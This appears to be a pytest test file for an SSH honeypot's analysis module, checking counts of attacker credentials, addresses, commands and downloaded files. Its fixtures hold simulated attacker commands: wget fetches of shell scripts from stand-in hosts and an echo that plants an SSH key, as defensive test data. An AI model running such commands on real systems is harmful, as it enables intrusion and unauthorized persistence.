from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from hermes import events
from hermes.analysis.counts import KINDS, Count, Window, series, top, totals
from hermes.analysis.reader import IndexReader
from tests.unit.analysis.facts import NOON, both, indexed, ran, typed, visit

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINsMPrV2BVYO3UkrrZh41pCm5zHBsBsRVe+vlm5R7zzz"


def stored(name: str, sha256: str) -> events.Event:
    return events.ArtifactStored(
        container_id="b", sha256=sha256, sha1="b" * 40, md5="c" * 32, size=9, path="/x", source="left", known=True, **both(name)
    )


@pytest.fixture(scope="module")
def index(tmp_path_factory: pytest.TempPathFactory) -> Iterator[IndexReader]:
    key: dict[str, Any] = {"method": "publickey", "accepted": False, "rule": "denied", "connection_id": "c-one"}
    facts = [
        *visit("one"),
        events.AuthAttempt(username="git", key_type="ssh-ed25519", key_fingerprint="SHA256:x", key="AAAA", **key),
        events.AuthAttempt(username="git", **(key | {"method": "none"})),
        events.AuthAttempt(username="me", responses=["a", "b"], **(key | {"method": "keyboard-interactive"})),
        *ran("one", "wget http://192.0.2.1/a.sh", "uname -a", f"echo '{KEY}' >> k"),
        stored("one", "1" * 64),
        *visit("two", address="192.0.2.9"),
        *ran("two", "wget http://198.51.100.2/b.sh"),
        stored("two", "1" * 64),
        stored("two", "2" * 64),
        *visit("three", address="2001:db8::1", user="admin", password="root", country="DE"),
    ]
    with indexed(tmp_path_factory.mktemp("index"), *facts) as reader:
        yield reader


def counted(found: list[Count]) -> list[tuple[Any, ...]]:
    return [(*it.values.values(), it.count) for it in found]


@pytest.mark.parametrize(
    ("kind", "expected"),
    [
        ("credentials", [("root", "root", 2), ("admin", "root", 1), ("me", "a b", 1)]),
        ("usernames", [("root", 2), ("admin", 1), ("git", 1), ("me", 1)]),
        ("passwords", [("root", 3), ("a b", 1)]),
        ("keys", [("SHA256:x", 1)]),
        ("hosts", [("192.0.2.1", 1), ("198.51.100.2", 1)]),
        ("clients", [("SSH-2.0-Go", 3)]),
        ("hasshs", [("hassh-of-root", 2), ("hassh-of-admin", 1)]),
        ("addresses", [("192.0.2.7", 1), ("192.0.2.9", 1), ("2001:db8::1", 1)]),
        ("networks", [("192.0.2.0/24", 2), ("2001:db8::/48", 1)]),
        ("countries", [("NL", 2), ("DE", 1)]),
        ("asns", [(64500, "Example", 3)]),
        ("files", [("1" * 64, 9, "/x", 2), ("2" * 64, 9, "/x", 1)]),
    ],
)
def test_the_most_frequent_come_first(index: IndexReader, kind: str, expected: list[tuple[Any, ...]]) -> None:
    assert counted(top(index, kind, Window(), 10)) == expected
    assert counted(top(index, kind, Window(), 1)) == expected[:1]


def test_commands_that_are_alike_are_counted_together(index: IndexReader) -> None:
    found = top(index, "commands", Window(), 10)
    assert [(it.values["command"], it.count) for it in found] == [("wget URL", 2), ("echo KEY >>k", 1), ("uname -a", 1)]
    assert found[0].values["example"].startswith("wget http://")
    assert found[0].last == NOON + timedelta(seconds=19)


def test_keys_that_were_planted_are_counted(index: IndexReader) -> None:
    ((fingerprint, count),) = counted(top(index, "planted-keys", Window(), 10))
    assert (fingerprint[:7], count) == ("SHA256:", 1)


def test_every_kind_can_be_counted_within_bounds_of_time(index: IndexReader) -> None:
    never = Window(since=NOON + timedelta(days=9), until=NOON + timedelta(days=10))
    assert {kind: top(index, kind, never, 10) for kind in KINDS} == {kind: [] for kind in KINDS}
    assert counted(top(index, "addresses", Window(since=NOON + timedelta(seconds=10)), 10)) == [
        ("192.0.2.9", 1),
        ("2001:db8::1", 1),
    ]
    assert counted(top(index, "addresses", Window(until=NOON + timedelta(seconds=10)), 10)) == [("192.0.2.7", 1)]


def test_totals(index: IndexReader) -> None:
    assert totals(index, Window()) == {"connections": 3, "sessions": 3, "attempts": 5, "commands": 4, "files": 3}


def test_hours_and_days_have_their_share(tmp_path: Path) -> None:
    with indexed(tmp_path, *(fact for number in range(3) for fact in visit(f"n{number}"))) as index:
        ((hour, numbers),) = series(index, Window(), "hour")
        assert (hour, numbers) == (NOON, {"connections": 3, "sessions": 3, "attempts": 3, "commands": 0, "files": 0})
        ((day, _),) = series(index, Window(), "day")
        assert day == NOON - timedelta(hours=12)


# ---- commands of a session


def test_a_session_s_commands_are_taken_apart(tmp_path: Path) -> None:
    with indexed(
        tmp_path, *visit("one"), *ran("one", "cd /tmp; ls"), *typed("one", "uname -a"), *visit("two"), *ran("two", "id")
    ) as index:
        first, second = index.commands("one")
        assert [it.name for it in first.parsed.commands] == ["cd", "ls"]
        assert (first.kind, first.line, first.normal, first.parsed.text) == ("exec", "cd /tmp; ls", "cd /tmp; ls", "cd /tmp; ls")
        assert (second.kind, second.line, second.channel) == ("input", "uname -a", 0)
        assert index.commands("none") == []


@pytest.mark.parametrize(
    ("lines", "credential"),
    [
        (["passwd", "s3cret", "s3cret"], ":s3cret"),
        (["passwd bob", "old", "s3cret", "s3cret"], "bob:s3cret"),
        (["passwd", "s3cret", "other"], None),
        (["ls", "ls", "ls"], None),
    ],
)
def test_a_password_that_was_typed_twice_is_known(tmp_path: Path, lines: list[str], credential: str | None) -> None:
    with indexed(tmp_path, *visit("one"), *typed("one", *lines)) as index:
        found = index.query("SELECT value FROM commands_facts WHERE kind = 'credential'")
        assert found == ([] if credential is None else [(credential,)])
